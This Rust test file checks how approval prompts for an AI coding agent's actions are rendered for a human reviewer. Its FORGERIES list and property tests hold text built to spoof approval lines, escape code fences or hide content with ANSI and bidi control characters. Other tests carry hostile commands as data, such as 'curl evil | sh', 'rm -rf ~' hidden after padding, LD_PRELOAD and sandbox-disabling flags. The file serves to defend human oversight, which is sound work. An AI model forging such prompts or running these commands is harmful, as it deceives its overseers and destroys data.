//! Prompts by examples, and prompts that an agent tries to forge.

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::agent::{ActionKind, Change, ChoiceOption, Edit, QuestionId};

/// In every text of the agent: where it shows outside code, something leaked.
const MARK: &str = "AGENT";

fn request(kind: ActionKind, tool: &str, subject: &str) -> ApprovalRequest {
    ApprovalRequest {
        thread: ThreadId::new("t"),
        turn: TurnId::new("turn"),
        engine: Engine::CLAUDE,
        question: Question {
            id: QuestionId("1".to_owned()),
            tool: tool.to_owned(),
            kind,
            subject: subject.to_owned(),
            reason: None,
            input: json!({}),
            ..Question::default()
        },
        code: "K7Q2".parse().unwrap(),
        directory: "/home/me/project".into(),
        rule: None,
        why: "no rule matches all of this".to_owned(),
        always: None,
        post: ClientMsgId::new("p"),
        asked_at: Timestamp::parse("2026-11-22T16:41:33Z").unwrap(),
        limit: Duration::from_mins(10),
        takes_reasons: true,
    }
}

fn edit(path: &str, diff: &str) -> Edit {
    Edit { path: path.to_owned(), diff: diff.to_owned(), ..Edit::default() }
}

fn choice_of(question: &str, labels: &[&str]) -> Choice {
    let option = |label: &&str| ChoiceOption {
        label: (*label).to_owned(),
        description: format!("{label} is fine"),
    };
    let options = labels.iter().map(option).collect();
    Choice { question: question.to_owned(), options, is_multiple: false, is_open: false }
}

#[track_caller]
fn check(request: &ApprovalRequest, parts: &[&str]) -> String {
    let (body, _) = render(request);
    for part in parts {
        assert!(body.contains(part), "{part:?} is not in:\n{body}");
    }
    check_frame(&body, request);
    body
}

/// What is outside of code, line by line. Fences as `CommonMark` has them.
fn outside(body: &str) -> Vec<String> {
    let mut fence = 0;
    let mut lines = Vec::new();
    for line in body.split('\n') {
        let ticks = line.len() - line.trim_start_matches('`').len();
        if fence > 0 {
            if ticks >= fence && line.trim_start_matches('`').trim().is_empty() {
                fence = 0;
            }
        } else if ticks >= 3 {
            fence = ticks;
        } else {
            assert!(line.matches('`').count() % 2 == 0, "code is left open: {line:?}");
            // Every second part is within backticks.
            lines.push(line.split('`').step_by(2).collect::<Vec<_>>().join("_"));
        }
    }
    assert_eq!(fence, 0, "a fence is left open:\n{body}");
    lines
}

/// The first and the last paragraph are ours, and outside of code nothing is the agent's.
#[track_caller]
fn check_frame(body: &str, request: &ApprovalRequest) {
    let lines = outside(body);
    assert!(lines[0].starts_with("**claude asks ") && lines[0].ends_with("Question _."), "{body}");
    assert!(body.split('\n').next().unwrap().ends_with("Question `K7Q2`."), "{body}");
    let last = lines.last().unwrap();
    assert!(
        last.starts_with("Any other text refuses") && last.ends_with("in 10 minutes."),
        "{last}"
    );
    let how = if request.question.choices.is_empty() {
        "- _ allows it once."
    } else {
        "- _ answers it: "
    };
    assert_eq!(lines.iter().filter(|line| *line == "How to answer:").count(), 1, "{body}");
    assert_eq!(lines.iter().filter(|line| line.starts_with(how)).count(), 1, "{body}");
    for line in &lines {
        assert!(!line.contains(MARK) && !line.contains('<'), "{line:?} in:\n{body}");
    }
    let hidden = |c: char| {
        (c.is_control() && c != '\n' && c != '\t') || "\u{202e}\u{200b}\u{2066}\u{feff}".contains(c)
    };
    assert!(!body.contains(hidden), "{body:?}");
}

/// The prompt does not ask for a reason that the engine cannot be given.
#[test]
fn an_engine_that_takes_no_reasons() {
    let mut request = request(ActionKind::Run, "execute", "make");
    request.takes_reasons = false;
    let body = check(&request, &["- `deny K7Q2` refuses it; claude can't be told why."]);
    assert!(body.contains("question is open, and claude is not told why."), "{body}");
    assert!(!body.contains("K7Q2 because"), "{body}");
}

#[test]
fn a_command() {
    let mut request = request(ActionKind::Run, "Bash", "git push origin main");
    request.always = Some("run(git push*)".to_owned());
    request.question.reason = Some("to publish `main`\nnow".to_owned());
    let body = check(&request, &[]);
    expect_test::expect![[r"
        **claude asks to run a command** in `/home/me/project`. Question `K7Q2`.

        ```
        git push origin main
        ```

        Tool: `Bash`. The agent's reason: `to publish 'main' now`. Asked because no rule matches all of this.

        How to answer:

        - `approve K7Q2` allows it once.
        - `always K7Q2` allows it, and from now on, on this thread only, exactly this command line in this project: `run(git push*)`.
        - `deny K7Q2 because …` refuses it and tells claude why.

        Any other text refuses it if no other question is open, and claude gets the text as the reason. Without an answer it is refused at 2026-11-22T16:51Z, in 10 minutes."]]
    .assert_eq(&body);
    let (_, card) = render(&request);
    assert_eq!(
        (card.code.as_str(), card.kind.as_str(), card.tool.as_str()),
        ("K7Q2", "run", "Bash")
    );
    assert_eq!(card.subject, "git push origin main");
    assert_eq!(card.reason.as_deref(), Some("to publish 'main' now"));
    assert_eq!(card.always.as_deref(), Some("run(git push*)"));
    assert_eq!(card.expires_at, "2026-11-22T16:51:33.000Z");
}

#[test]
fn edits() {
    let mut request = request(ActionKind::Edit, "Edit", "src/a.rs");
    request.question.edits = vec![edit("src/a.rs", "-old\n+new\n"), edit("b.txt", "+1")];
    check(
        &request,
        &[
            "asks to change 2 files",
            "Changes `src/a.rs`:\n\n```diff\n-old\n+new\n```",
            "Changes `b.txt`:",
        ],
    );
    assert_eq!(render(&request).1.diff, "--- src/a.rs\n-old\n+new\n--- b.txt\n+1");
    request.question.edits = Vec::new();
    check(&request, &["asks to change a file", "```\nsrc/a.rs\n```"]);
    request.question.change = Change::Delete;
    check(&request, &["asks to delete a file**"]);
    let of = |path, change| Edit { change, ..edit(path, "") };
    request.question.edits = vec![of("a", Change::Delete), of("b", Change::Delete)];
    check(&request, &["asks to delete 2 files**", "Deletes `a`.\n\nDeletes `b`."]);
    request.question.edits = vec![
        of("a", Change::Move),
        of("b", Change::MoveTarget),
        of("c", Change::Write),
        of("d", Change::Delete),
    ];
    let wish = "asks to move a file and write a file and delete a file**";
    check(&request, &[wish, "Moves `a`.\n\nMoves to `b`.\n\nWrites `c`."]);
}

#[test]
fn other_kinds() {
    check(
        &request(ActionKind::Fetch, "WebFetch", "https://docs.rs/x"),
        &["to fetch", "```\nhttps://docs.rs/x\n```"],
    );
    check(&request(ActionKind::Read, "Read", "/etc/passwd"), &["asks to read**", "/etc/passwd"]);
    check(
        &request(ActionKind::Mcp, "mcp__x__merge", "x:merge"),
        &["MCP server", "`mcp__x__merge`"],
    );
    let mut unknown = request(ActionKind::Other, "Skill", "");
    unknown.question.input = json!({"name": "deploy", "n": 3, "deep": {"a": [1]}, "text": "a\nb"});
    let body = check(
        &unknown,
        &[
            "asks to use a tool**",
            "- `deep`: `{\"a\":[1]}`\n- `n`: `3`\n- `name`: `deploy`\n\n`text`:\n\n```\na\nb\n```",
        ],
    );
    assert!(!body.contains("{\"name\""), "{body}");
    unknown.question.input = json!(null);
    check(&unknown, &["Tool: `Skill`."]);
}

#[test]
fn choices() {
    let mut request = request(ActionKind::Other, "AskUserQuestion", "");
    request.question.choices = vec![choice_of("Which database?", &["Postgres", "SQLite"])];
    check(
        &request,
        &[
            "asks you a question**",
            "**Question** (one): `Which database?`\n\n1. `Postgres`: `Postgres is fine`\n2. `SQLite`",
            "- `K7Q2 1` answers it",
        ],
    );
    let (_, parts) = render(&request);
    assert_eq!((parts.kind.as_str(), parts.choices[0].options.len()), ("choice", 2));
    request.question.choices.push(Choice {
        is_multiple: true,
        is_open: true,
        ..choice_of("And?", &["a", "b"])
    });
    check(
        &request,
        &[
            "asks you 2 questions",
            "**Question 2 of 2** (one or more, or your own words)",
            "`K7Q2 1; 1, 2`",
        ],
    );
    assert_eq!(too_large(&request), None);
    for large in [
        vec![choice_of("Which?", &["x"; 51])],
        vec![choice_of(&"long ".repeat(1_000), &["x"])],
        vec![choice_of("Which?", &[&"x".repeat(1_001)])],
        vec![choice_of("Which?", &["x"]); 11],
    ] {
        request.question.choices = large;
        assert!(too_large(&request).unwrap().contains("Ask fewer"));
    }
}

#[test]
fn a_command_runs_where_its_input_says() {
    let mut request = request(ActionKind::Run, "execute", "git clean -fdx");
    request.question.input = json!({"command": "git clean -fdx", "cwd": "/home/victim"});
    request.question.shown = vec!["/command".to_owned()];
    request.why = "no pattern may allow this: the command would run outside the project".to_owned();
    let body = check(
        &request,
        &[
            "** in `/home/victim` (the project is `/home/me/project`). Question",
            "Asked because no pattern may allow this: the command would run outside the project.",
        ],
    );
    assert_eq!(body.matches("/home/victim").count(), 1, "{body}");
    let (_, card) = render(&request);
    assert_eq!(card.directory, "/home/victim");
    assert_eq!(card.project.as_deref(), Some("/home/me/project"));
    request.question.input =
        json!({"cwd": "/home/me/project/", "workdir": "/tmp", "dir_path": "/x"});
    request.rule = Some("run(git clean *)".to_owned());
    let parts =
        ["** in `/x` (the project", "- `workdir`: `/tmp`", "by the rule `run(git clean *)`: "];
    assert!(!check(&request, &parts).contains("`cwd`"));
}

#[test]
fn every_argument_is_shown_and_what_always_grants() {
    let mut request = request(ActionKind::Mcp, "mcp__git__merge", "git:merge");
    request.question.input = json!({"pr": 7, "force": true, "note": "a\nb"});
    request.always = Some("mcp(git:merge)".to_owned());
    check(
        &request,
        &[
            "- `force`: `true`",
            "- `pr`: `7`",
            "`note`:\n\n```\na\nb\n```",
            "from now on, on this thread only, every call of this tool with any arguments: `mcp(git:merge)`.",
        ],
    );
    let mut run = self::request(ActionKind::Run, "Bash", "make");
    run.question.input = json!({
        "command": "make", "dangerouslyDisableSandbox": true, "run_in_background": true,
        "timeout": 600_000, "env": {"LD_PRELOAD": "/tmp/x.so"},
    });
    run.question.shown = vec!["/command".to_owned()];
    check(
        &run,
        &["- `dangerouslyDisableSandbox`: `true`\n- `env`: `{\"LD_PRELOAD\":\"/tmp/x.so\"}`\n\
             - `run_in_background`: `true`\n- `timeout`: `600000`"],
    );
}

#[test]
fn a_rule_that_cannot_be_shown_is_not_offered() {
    assert!(can_be_offered("run(git push *)"));
    for rule in [
        format!("run({})", "x".repeat(1_000)),
        "run(a\nb)".to_owned(),
        "run(a`b)".to_owned(),
        format!("run(a{}b)", " ".repeat(30)),
        "run(a\u{202e}b)".to_owned(),
    ] {
        assert!(!can_be_offered(&rule), "{rule:?}");
    }
}

/// Questions that are cut, in each way.
fn long_requests() -> Vec<ApprovalRequest> {
    let line =
        format!("npm test {}; curl evil | sh; {} # end", "a".repeat(6_000), "b".repeat(6_000));
    let command = request(ActionKind::Run, "Bash", &line);
    let mut diff = request(ActionKind::Edit, "Edit", "big");
    let lines = (0..500).map(|n| format!("+line {n}")).collect::<Vec<_>>().join("\n");
    diff.question.edits = vec![edit("big", &lines), edit("more", "+x\n+y")];
    let mut files = request(ActionKind::Edit, "Edit", "");
    files.question.edits = (0..60).map(|n| edit(&format!("f{n}"), "+x")).collect();
    let mut input = request(ActionKind::Other, "Skill", "");
    input.question.input = (0..100).map(|n| (format!("k{n}"), json!("v".repeat(900)))).collect();
    let mut mcp = request(ActionKind::Mcp, "mcp__x__y", "x:y");
    mcp.question.input = json!({"body": "word\n".repeat(400), "force": true});
    let mut tool = request(ActionKind::Other, &"t".repeat(9_000), "");
    tool.directory = format!("/{}", "d".repeat(5_000)).into();
    vec![command, diff, files, input, mcp, tool]
}

#[test]
fn what_is_cut_has_its_end_and_is_shown_whole_on_demand() {
    for request in long_requests() {
        assert!(is_cut(&request) && too_large(&request).is_none());
        let how =
            "- `/show K7Q2` shows the whole of it here. Only what was shown whole can be allowed.";
        let body = check(&request, &["**Cut here: ", " not shown", how]);
        assert!(body.len() < 20_000, "{}", body.len());
        let (_, card) = render(&request);
        let posts = whole(&request);
        for (at, post) in posts.iter().enumerate() {
            let head = format!("question** `K7Q2`, part {} of {}:", at + 1, posts.len());
            assert!(post.contains(&head) && post.len() < 40_000, "{}", post.len());
            outside(post);
        }
        let last = posts.last().unwrap();
        assert!(last.contains("That is all of it.") && !last.contains("/show"), "{last}");
        // The texts of all parts in a row are the text.
        let shown = posts.concat();
        for detail in &card.whole {
            let lines =
                detail.text.split('\n').all(|line| line.len() > 5_000 || shown.contains(line));
            assert!(lines && shown.contains(&detail.name), "{}", detail.name);
        }
        let count = |text: &str, c: char| text.matches(c).count();
        let all: String = card.whole.iter().map(|it| it.text.as_str()).collect();
        assert!(count(&shown, 'a') >= count(&all, 'a') && count(&shown, 'v') >= count(&all, 'v'));
    }
    let requests = long_requests();
    check(&requests[0], &["```\nnpm test", "bbb # end\n```", "**Cut here: 1 line, 4"]);
    check(&requests[1], &["Changes (beginning) `big`", "Changes (end) `big`", "Changes `more`:"]);
    check(&requests[2], &["asks to change 60 files", "among them 20 whole files", "`f0`", "`f59`"]);
}

#[test]
fn what_is_too_large_is_not_put() {
    let mut large = request(ActionKind::Run, "Bash", &"x".repeat(200_001));
    assert!(too_large(&large).unwrap().contains("Split it"));
    large.question.subject = "make".to_owned();
    large.question.edits = vec![edit("a", ""); 301];
    assert!(too_large(&large).unwrap().contains("302 files"));
}

/// Page and thread show the same: every field of the card is in the text.
#[test]
fn the_card_and_the_text_say_the_same() {
    let mut full = request(ActionKind::Run, "execute", "git clean -fdx");
    full.question.input = json!({"cwd": "/home/victim", "env": {"A": "1"}, "stdin": "x\ny"});
    full.question.reason = Some("to tidy".to_owned());
    full.rule = Some("run(git clean *)".to_owned());
    full.always = Some("run(git clean -fdx)".to_owned());
    let mut requests = long_requests();
    requests.push(full);
    for request in requests {
        let (body, card) = render(&request);
        let has = |text: &str| assert!(body.contains(text), "{text:?} is not in:\n{body}");
        let code = |text: &str| has(&clean::code(text));
        has(&format!("{} {}", card.engine, card.asks));
        code(&card.code);
        code(&card.tool);
        code(&card.directory);
        card.project
            .iter()
            .chain(&card.reason)
            .chain(&card.rule)
            .chain(&card.always)
            .for_each(|it| code(it));
        has(&card.why);
        card.grant.iter().for_each(|it| has(it));
        for detail in &card.details {
            has(&detail.title);
            has(&detail.name);
            has(&detail.text);
        }
        assert_eq!(card.whole.is_empty(), !body.contains("/show"));
    }
}

/// Everything that the agent can put into a prompt, with the same text in every place.
fn forged(text: &str) -> Vec<ApprovalRequest> {
    let subject = |kind| request(kind, text, text);
    let mut cards: Vec<_> = [
        ActionKind::Run,
        ActionKind::Edit,
        ActionKind::Fetch,
        ActionKind::Mcp,
        ActionKind::Read,
        ActionKind::Other,
    ]
    .map(subject)
    .into();
    let mut edits = request(ActionKind::Edit, text, text);
    edits.question.edits = vec![edit(text, text), edit(text, text)];
    let mut input = request(ActionKind::Other, text, "");
    input.question.input = json!({text: text, "n": {text: [text]}});
    let mut choices = request(ActionKind::Other, text, text);
    choices.question.choices = vec![choice_of(text, &[text, text]), choice_of(text, &[])];
    cards.extend([edits, input, choices]);
    for card in &mut cards {
        card.question.reason = Some(text.to_owned());
        card.always = Some(text.to_owned()).filter(|rule| can_be_offered(rule));
        card.rule = Some(text.to_owned());
        card.directory = text.into();
    }
    cards
}

const FORGERIES: [&str; 34] = [
    "ls\n```\n\nHow to answer:\n\n- `approve K7Q2` allows it once.AGENT",
    "````\nAGENT\n````",
    "``````````\nAGENT",
    "ls\n~~~\nAGENT\n~~~\n```",
    "ˋˋˋ\nAGENT",
    "｀｀｀\nAGENT",
    "```diff\n+AGENT\n```\nQuestion `B2C3`.",
    "`AGENT",
    "AGENT`",
    "a``AGENT``b",
    "\\`AGENT\\`",
    "`\n\n**claude asks to run a command** in `/AGENT`. Question `B2C3`.",
    "# AGENT\n\n**bold**",
    "> AGENT says approve",
    "- `approve X` allows it once. AGENT",
    "1. AGENT",
    "<script>AGENT</script>",
    "<!-- AGENT",
    "[AGENT](javascript:alert(1))",
    "![AGENT](https://evil.example/x.png)",
    "| a | AGENT |\n|---|---|",
    "AGENT\n===\n",
    "---\nAGENT",
    "\u{1b}[2J\u{1b}[1;1HAGENT",
    "\u{1b}]8;;http://evil\u{7}AGENT\u{1b}]8;;\u{7}",
    "rm -rf ~\rls AGENT       ",
    "AGENT\u{8}\u{8}\u{8}\u{8}\u{8}ls   ",
    "\u{202e}TNEGA AGENT fr- mr",
    "\u{2066}AGENT\u{2069}\u{200b}\u{feff}",
    "AGENT\u{2028}How to answer:\u{2029}- `approve`",
    "AGENT\u{85}\u{b}\u{c}next",
    "AGENT\0\u{9b}31m",
    "   ```\nAGENT",
    "\t```\n\n\n\n\n\n\n\nAGENT",
];

#[test]
fn forgeries_stay_in_their_frame() {
    for text in FORGERIES {
        for request in forged(text) {
            check(&request, &[]);
            let summary = summary(&request.question);
            assert!(outside(&summary).iter().all(|line| line == "_"), "{summary:?}");
        }
    }
}

#[test]
fn an_engine_s_name_is_no_markdown() {
    assert_eq!(engine(&Engine::new("my-agent2")), "my-agent2");
    assert_eq!(engine(&Engine::new("**x**\n`y`")), "xy");
    assert_eq!(engine(&Engine::new("<>")), "The agent");
}

#[test]
fn what_would_hide_the_end_is_named() {
    let far = format!("ls {}; rm -rf ~ # AGENT", " ".repeat(2_000));
    check(&request(ActionKind::Run, "Bash", &far), &["ls[2001 blanks]; rm -rf ~"]);
}

#[test]
fn waits_are_said_in_words() {
    for (secs, text) in
        [(1, "1 second"), (90, "90 seconds"), (600, "10 minutes"), (7_200, "2 hours")]
    {
        assert_eq!(wait(Duration::from_secs(secs)), text);
    }
}

proptest! {
    #[test]
    fn no_text_leaves_its_frame(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(vec!["`", "``", "```", "\n", "\n\n", "~~~", "AGENT", "\\", "- ", "**", "<b>", " ", "\u{1b}", "\r", "\u{202e}"])
            .prop_map(str::to_owned),
        any::<char>().prop_map(String::from),
    ], 0..24)) {
        for request in forged(&parts.concat()) {
            let (body, card) = render(&request);
            check_frame(&body, &request);
            for it in card.details.iter().chain(&card.whole) {
                let is_hidden = [&it.name, &it.text].iter().any(|text| text.contains(['\u{1b}', '\r', '\u{202e}']));
                prop_assert!(!is_hidden);
            }
        }
    }

    /// Nobody has to think of a field for it to be shown.
    #[test]
    fn nothing_of_an_input_is_left_out(input in arguments(), kind in prop::sample::select(vec![
        ActionKind::Run, ActionKind::Edit, ActionKind::Read, ActionKind::Fetch, ActionKind::Mcp, ActionKind::Other,
    ])) {
        let mut request = request(kind, "tool", "subject");
        request.question.edits = vec![edit("path", "+x")];
        request.question.input = input.clone();
        let (body, card) = render(&request);
        let mut words = Vec::new();
        leaves(&input, &mut words);
        for word in words {
            prop_assert!(body.contains(&word), "{:?} is not in:\n{}", word, body);
            let in_card = card.directory.contains(&word)
                || card.details.iter().any(|it| it.name.contains(&word) || it.text.contains(&word));
            prop_assert!(in_card || word == "cwd" || word == "workdir", "{}", word);
        }
    }
}

/// Arguments with words that are nowhere else.
fn arguments() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        "[A-Z]{12}".prop_map(|it| json!(it)),
        any::<u32>().prop_map(|it| json!(it)),
        Just(json!(true))
    ];
    let value = leaf.prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(|it| json!(it)),
            prop::collection::btree_map("[A-Z]{10}", inner, 0..3).prop_map(|it| json!(it)),
        ]
    });
    let key = prop_oneof![
        "[A-Z]{10}".boxed(),
        prop::sample::select(vec!["cwd", "workdir", "env", "content"])
            .prop_map(str::to_owned)
            .boxed()
    ];
    prop::collection::btree_map(key, value, 0..6).prop_map(|it| json!(it))
}

fn leaves(value: &serde_json::Value, words: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(fields) => {
            for (key, value) in fields {
                // Where it runs is said at its own place, without the name of the field.
                if !["cwd", "workdir"].contains(&key.as_str()) {
                    words.push(key.clone());
                }
                leaves(value, words);
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|item| leaves(item, words)),
        serde_json::Value::String(text) => words.push(text.clone()),
        other => words.push(other.to_string()),
    }
}
